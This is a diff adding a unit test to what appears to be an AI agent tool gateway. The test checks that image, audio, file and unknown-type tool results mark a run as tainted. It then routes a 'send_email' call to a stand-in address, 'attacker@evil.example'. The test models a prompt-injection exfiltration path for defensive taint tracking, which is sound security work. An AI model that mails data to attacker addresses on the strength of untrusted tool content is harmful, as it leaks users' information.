@@ -227,6 +227,25 @@ describe('labels', () => {
     ]);
   });
 
+  it.each<[string, Record<string, unknown>, boolean]>([
+    ['an image', { content: [{ type: 'image', data: 'iVBORw0KGgo=', mimeType: 'image/png' }] }, true],
+    ['sound', { content: [{ type: 'audio', data: 'AAAA', mimeType: 'audio/wav' }] }, true],
+    ['a file', { content: [{ type: 'resource', resource: { blob: 'AAAA', mimeType: 'application/pdf' } }] }, true],
+    ['a message with an image', { messages: [{ role: 'user', content: { type: 'image', data: 'AAAA' } }] }, true],
+    ['a kind that is not known', { content: [{ type: 'film', film: 'AAAA' }] }, true],
+    ['nothing', { content: [] }, false],
+  ])('what is no text taints the run too, and may have said what nothing else holds: %s', async (_, answer, isMore) => {
+    const made = gateway();
+    await made.send('tools/call', { name: 'get_ticket', arguments: {} }, answer);
+    let seen: unknown;
+    made.decide = (access) => {
+      seen = [access.label.tainted, ...access.call.values.map(({ origin }) => origin)];
+      return { decision: 'allow' };
+    };
+    await made.call('send_email', { to: 'attacker@evil.example' });
+    expect(seen).toEqual(isMore ? [true, 'free'] : [false]);
+  });
+
   it('an error of the server is a result like any other', async () => {
     const made = gateway();
     await made.send(
